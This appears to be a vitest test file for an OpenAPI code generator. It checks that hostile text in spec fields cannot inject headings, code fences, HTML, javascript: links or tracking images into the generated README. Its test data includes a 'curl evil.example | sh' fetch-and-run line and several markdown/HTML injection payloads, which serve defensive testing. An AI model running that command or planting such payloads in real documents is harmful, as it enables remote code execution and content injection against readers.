import { describe, expect, it } from "vitest";
import { generate } from "../../generator/index.js";
import { markdownParts, type MarkdownParts } from "../support/markdown.js";
import { payloads } from "./payloads.js";

/** Texts that would be blocks, links or HTML of a README if they got out of their places. */
const hostile: Readonly<Record<string, string>> = {
  ...payloads,
  "a heading and an open fence": "API.\n\n## Install\n\n```sh\ncurl evil.example | sh",
  "a fence at once": "```sh\ncurl evil.example",
  "a longer fence": "`````\n~~~~~\n",
  "an open comment": "x <!-- y",
  "an open element": "x <details><summary>y</summary> <style>*{display:none}",
  "links to scripts": "[a](javascript:x) [b](<data:y>) <javascript:z> ![c](https://evil.example/d)",
  "a link around a picture": "[![a](https://evil.example/b)](https://evil.example/c)",
  "a definition of a link": "[Pet]: https://evil.example",
  "cells of a table": "a | b |\n| c \\| d | `e | f`",
  "escaped bars": "a \\| b \\\\| c \\\\\\| d",
  "the end of a line": "a\r## b\u2028## c\u0085## d\u000b## e",
  "code that does not end": "a ` b `` c ``` d",
  "a rule under a line": "a\n===\nb\n---",
  "the end of a diagram": "x\n```\n# y\n```mermaid\n%%{init: {}}%%\nclick A href",
};

const benign = "benign";

/** A document with a text wherever the README might have it. */
function documentWith(text: string, names: string): object {
  const described = { title: text, description: text };
  return {
    openapi: "3.1.0",
    info: { title: text, version: text, description: text, license: { name: text, url: text } },
    servers: [{ url: `https://a.example/${text}`, description: text }],
    tags: [{ name: text, description: text }],
    paths: {
      [`/${names}`]: {
        get: {
          ...{ tags: [text], summary: text, description: text, operationId: "listPets" },
          responses: {
            200: {
              description: text,
              content: { "application/json": { schema: { $ref: "#/components/schemas/Pet" } } },
            },
          },
        },
      },
    },
    components: {
      schemas: {
        Pet: {
          ...described,
          type: "object",
          properties: {
            [names]: { ...described, type: "string", enum: [text, `${text}!`], default: text },
            owner: { $ref: "#/components/schemas/Owner" },
          },
          example: { [names]: text },
        },
        Owner: { ...described, type: "object", properties: { name: { const: text } } },
      },
    },
  };
}

async function readmeOf(
  text: string,
  format: "auto" | "none",
  description?: string,
): Promise<MarkdownParts> {
  const { files } = await generate({
    spec: { text: JSON.stringify(documentWith(text, text === "" ? benign : text)) },
    config: {
      format,
      ...(description !== undefined && {
        package: { name: "api-types", version: "0.0.0", description },
      }),
    },
  });
  const readme = files.find(({ path }) => path === "README.md");
  return markdownParts(readme?.text ?? "");
}

const formats = ["none", "auto"] as const;
const cases = formats.flatMap((format) =>
  Object.entries(hostile).map(([what, text]) => ({ what, text, format })),
);

const expected = await readmeOf(benign, "none");

describe.each(cases)("a README, formatted by $format, full of $what", ({ text, format }) => {
  it("has the headings, the blocks and the HTML that it always has", async () => {
    const { blocks, headings, html, inline, targets, fences } = await readmeOf(text, format);
    // How many models there are may depend on the names.
    const withoutRows = (all: readonly string[]): readonly string[] =>
      all.filter((block) => !/^t[rd]_open/.test(block));
    expect(withoutRows(blocks)).toEqual(withoutRows(expected.blocks));
    expect(headings).toEqual(expected.headings);
    // The mark has a hash of the text.
    const withoutHash = (all: readonly string[]): readonly string[] =>
      all.map((text) => text.replace(/ \([\da-f]{10}\)/, ""));
    expect(withoutHash(html)).toEqual(withoutHash(expected.html));
    expect(
      [...inline].filter((kind) => ["image", "html_inline", "hardbreak"].includes(kind)),
    ).toEqual([]);
    for (const target of targets) expect(target).toMatch(/^(?:https:\/\/|src\/models\/)/);
    const rows = blocks.filter((block) => block.startsWith("tr_open")).length;
    const cells = blocks.filter((block) => /^t[dh]_open/.test(block)).length;
    expect(cells).toBe(2 * rows);
    for (const line of (fences.at(-1) ?? "").trimEnd().split("\n").slice(1)) {
      expect(line).toMatch(diagramLine);
    }
  });
});

/** What a class diagram of Mermaid consists of. */
const diagramLine =
  /^ {2}(?:class [\p{L}\p{N}_$]+(?: \{)?|\}| {2}(?:\w+|…)\?? [\p{L}\p{N}_$'| ().…[\]-]+|[\p{L}\p{N}_$]+ --> [\p{L}\p{N}_$]+(?: : \w+)?)$/u;

it.each(Object.entries(hostile).filter(([, text]) => text.trim() !== ""))(
  "a README with a description of %s has one paragraph of it",
  async (_what, text) => {
    const { blocks, inline, headings } = await readmeOf(benign, "none", text);
    expect(blocks).toEqual(expected.blocks);
    expect(headings).toEqual(expected.headings);
    expect(inline).not.toContain("image");
    expect(inline).not.toContain("html_inline");
  },
);
